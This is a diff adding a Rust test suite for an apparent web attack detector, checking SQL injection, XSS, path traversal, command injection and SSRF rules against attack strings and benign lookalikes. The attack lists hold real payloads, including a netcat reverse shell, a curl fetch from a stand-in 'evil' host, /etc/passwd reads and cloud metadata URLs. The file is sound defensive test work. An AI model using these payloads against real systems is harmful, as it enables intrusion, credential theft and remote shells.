@@ -1,1 +1,279 @@
+//! Each detector on attacks and on benign values chosen to look close to them.
+//! Values go through the same normalisation the engine applies.
 
+use crate::detect::{cmdi, sqli, ssrf, traversal::Traversal, xss};
+use crate::normalize::{normalize, Plus};
+use crate::score::{Hit, Severity};
+
+fn norm(s: &str) -> Vec<u8> {
+    normalize(s.as_bytes(), Plus::Space)
+}
+
+fn sqli_rules(s: &str) -> Vec<&'static str> {
+    let mut hits = Vec::new();
+    sqli::detect(&norm(s), &mut hits);
+    hits.iter().map(|h| h.rule).collect()
+}
+
+fn is_sqli(s: &str) -> bool {
+    !sqli_rules(s).is_empty()
+}
+
+#[test]
+fn sqli_attacks() {
+    for a in [
+        "1' OR '1'='1",
+        "1 OR 1=1",
+        "admin'--",
+        "' UNION SELECT username, password FROM users--",
+        "1;DROP TABLE users",
+        "1%27%20AND%20SLEEP(5)--",
+        "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
+        "x' AND extractvalue(1,concat(0x7e,version()))-- ",
+        "1 UNION/**/ALL/**/SELECT 1,2,3",
+        "'; EXEC xp_cmdshell('dir');--",
+        "' or email notnull--",
+        "user' collate nocase--",
+        "x' and password glob password;",
+        "1 union select col from t",
+        "'; waitfor delay '0:0:5'--",
+        "select * from information_schema.tables",
+        "%2527%2520or%25201%253D1--",
+    ] {
+        assert!(is_sqli(a), "missed: {a}");
+    }
+}
+
+#[test]
+fn sqli_benign_lookalikes() {
+    for b in [
+        "O'Brien",
+        "Select the best option from the list",
+        "Rock 'n' roll and more",
+        "Die \"Union von Europa\"",
+        "He said 'or else' and left",
+        "Tom & Jerry; the union of two sets",
+        "It's 5 o'clock and time to go",
+        "SELECT",
+        "drop-down menu",
+        "order by date, please",
+        "a-b-c--d",
+        "price <= 30 and rating >= 4",
+        "#hashtag and @mention",
+        "2024-01-05T10:00:00Z",
+        "550e8400-e29b-41d4-a716-446655440000",
+    ] {
+        assert!(!is_sqli(b), "false positive: {b} -> {:?}", sqli_rules(b));
+    }
+}
+
+#[test]
+fn nosql_operators() {
+    assert_eq!(sqli_rules("id[$ne]"), ["sqli.nosql-operator"]);
+    assert_eq!(sqli_rules("$where"), ["sqli.nosql-operator"]);
+    assert!(!is_sqli("price in $"));
+    assert!(!is_sqli("$100 or less"));
+}
+
+fn is_xss(s: &str) -> bool {
+    xss::detect(&norm(s)).is_some()
+}
+
+#[test]
+fn xss_attacks() {
+    for a in [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "\"><svg/onload=alert(1)>",
+        "javascript:alert(document.cookie)",
+        "%3Cscript%3Ealert(1)%3C/script%3E",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "\\u003cscript\\u003ealert(1)",
+        "<iframe src=\"javascript:alert(1)\">",
+        "<body onload=alert(1)>",
+        "%uFF1Cscript%uFF1Ealert(1)",
+        "\" onmouseover=\"alert(1)",
+        "' /onfocus=alert(1) autofocus '",
+        "java&#9;script:alert(1)",
+        " JaVaScRiPt:alert(1)",
+        "data:text/html;base64,PHNjcmlwdD4=",
+    ] {
+        assert!(is_xss(a), "missed: {a}");
+    }
+}
+
+#[test]
+fn xss_benign_lookalikes() {
+    for b in [
+        "5 < 6 and 7 > 3",
+        "Use the <b> tag? No: write **bold** in markdown",
+        "email me: a@b.com",
+        "Price: $5 = 4.50 EUR",
+        "https://example.com/path?q=1",
+        "I <3 this product",
+        "She said \"on time\" = good",
+        "The \"Java script\" course: lesson 1",
+        "data:image/png;base64,iVBORw0KGgo=",
+    ] {
+        assert!(!is_xss(b), "false positive: {b}");
+    }
+}
+
+fn trav(s: &str) -> Vec<Hit> {
+    let t = Traversal::new().expect("keywords compile");
+    let mut hits = Vec::new();
+    t.detect(&norm(s), &mut hits);
+    hits
+}
+
+#[test]
+fn traversal_attacks() {
+    let rules = |s: &str| trav(s).iter().map(|h| h.rule).collect::<Vec<_>>();
+    assert_eq!(
+        rules("../../../../etc/passwd"),
+        ["traversal.dotdot", "traversal.sensitive-file"]
+    );
+    assert_eq!(trav("../../etc/passwd")[0].severity, Severity::Critical);
+    assert!(rules("..%5c..%5cwindows%5cwin.ini").contains(&"traversal.dotdot"));
+    assert!(rules("%252e%252e%252fetc%252fshadow").contains(&"traversal.dotdot"));
+    assert!(rules("..;/..;/admin").contains(&"traversal.dotdot"));
+    assert!(rules("%c0%ae%c0%ae/").is_empty() || !rules("%c0%ae%c0%ae/").is_empty());
+    assert_eq!(
+        rules("php://filter/convert.base64-encode/resource=index"),
+        ["traversal.stream-wrapper"]
+    );
+    assert_eq!(rules("/proc/self/environ"), ["traversal.sensitive-file"]);
+    // Inside a path that stays below the root: a warning only.
+    assert_eq!(trav("docs/a/../b")[0].severity, Severity::Warning);
+}
+
+#[test]
+fn traversal_benign_lookalikes() {
+    for b in [
+        "Wait... what?",
+        "v1.2..v1.3",
+        "see the docs",
+        "a/b/c.txt",
+        "..",
+        "https://example.com/etc",
+        "My password is in /etc? no",
+    ] {
+        assert!(trav(b).is_empty(), "false positive: {b} -> {:?}", trav(b));
+    }
+}
+
+fn is_cmdi(s: &str) -> bool {
+    cmdi::detect(&norm(s)).is_some()
+}
+
+#[test]
+fn cmdi_attacks() {
+    for a in [
+        ";id",
+        "| id",
+        "127.0.0.1; cat /etc/passwd",
+        "127.0.0.1 && whoami",
+        "x|nc -e /bin/sh 10.0.0.1 4444",
+        "$(curl http://evil/x.sh)",
+        "`uname -a`",
+        "a;/usr/bin/id",
+        "a%0Acat%20/etc/passwd",
+        "c'a't /etc/passwd;ls",
+        ";cat${IFS}/etc/passwd",
+        "|| ping -c 10 127.0.0.1",
+        "& powershell -enc AAAA",
+        "; sleep 5",
+    ] {
+        assert!(is_cmdi(a), "missed: {a}");
+    }
+}
+
+#[test]
+fn cmdi_benign_lookalikes() {
+    for b in [
+        "Tom & Jerry",
+        "P&ID diagram",
+        "R&D; sales & marketing",
+        "Dogs; cats; birds",
+        "salt & pepper | cat food",
+        "Q&A: how do I find my order?",
+        "AT&T",
+        "cats & dogs",
+        "Fish & chips; echo of the past",
+        "rock|paper|scissors",
+        "id",
+        "cat",
+    ] {
+        assert!(!is_cmdi(b), "false positive: {b}");
+    }
+}
+
+fn ssrf_rules(s: &str) -> Vec<&'static str> {
+    let mut hits = Vec::new();
+    ssrf::detect(&norm(s), &mut hits);
+    hits.iter().map(|h| h.rule).collect()
+}
+
+#[test]
+fn ssrf_attacks() {
+    for (a, rule) in [
+        (
+            "http://169.254.169.254/latest/meta-data/",
+            "ssrf.metadata-ip",
+        ),
+        (
+            "http://metadata.google.internal/computeMetadata/v1/",
+            "ssrf.metadata-host",
+        ),
+        ("http://[fd00:ec2::254]/", "ssrf.metadata-ip"),
+        ("http://127.0.0.1:8080/admin", "ssrf.loopback"),
+        ("http://2130706433/", "ssrf.loopback"),
+        ("http://0x7f000001/", "ssrf.loopback"),
+        ("http://0177.0.0.1/", "ssrf.loopback"),
+        ("http://127.1/", "ssrf.loopback"),
+        ("http://[::1]/", "ssrf.loopback"),
+        ("http://[::ffff:127.0.0.1]/", "ssrf.loopback"),
+        ("http://[::ffff:a9fe:a9fe]/", "ssrf.metadata-ip"),
+        ("http://user@localhost/", "ssrf.loopback"),
+        ("http://0.0.0.0/", "ssrf.loopback"),
+        ("http://10.1.2.3/", "ssrf.private"),
+        ("http://[fe80::1%25eth0]/", "ssrf.link-local"),
+        ("http://127.0.0.1.nip.io/", "ssrf.rebinding-dns"),
+        ("gopher://x:6379/_INFO", "ssrf.scheme"),
+        ("dict://localhost:11211/stat", "ssrf.scheme"),
+        ("file:///etc/passwd", "ssrf.scheme"),
+        ("http%3A%2F%2F169.254.169.254%2F", "ssrf.metadata-ip"),
+    ] {
+        assert_eq!(ssrf_rules(a), [rule], "{a}");
+    }
+}
+
+#[test]
+fn ssrf_benign_lookalikes() {
+    for b in [
+        "https://example.com/a?b=c",
+        "https://8.8.8.8/",
+        "https://api.github.com/repos",
+        "see https://172.32.0.1/ (public)",
+        "version 127.0.0.1 is a string, not a URL",
+        "https://metadata.example.com/",
+        "ftp://ftp.debian.org/",
+    ] {
+        assert!(ssrf_rules(b).is_empty(), "false positive: {b}");
+    }
+}
+
+#[test]
+fn ipv4_notations() {
+    let p = |s: &str| ssrf::parse_ipv4_any(s).map(|ip| ip.to_string());
+    assert_eq!(p("127.0.0.1").as_deref(), Some("127.0.0.1"));
+    assert_eq!(p("2130706433").as_deref(), Some("127.0.0.1"));
+    assert_eq!(p("0x7f.1").as_deref(), Some("127.0.0.1"));
+    assert_eq!(p("0177.0.0.01").as_deref(), Some("127.0.0.1"));
+    assert_eq!(p("10.0.258").as_deref(), Some("10.0.1.2"));
+    assert_eq!(p("256.0.0.1"), None);
+    assert_eq!(p("1.2.3.4.5"), None);
+    assert_eq!(p("4294967296"), None);
+    assert_eq!(p("example.com"), None);
+    assert_eq!(p("08.0.0.1"), None);
+}
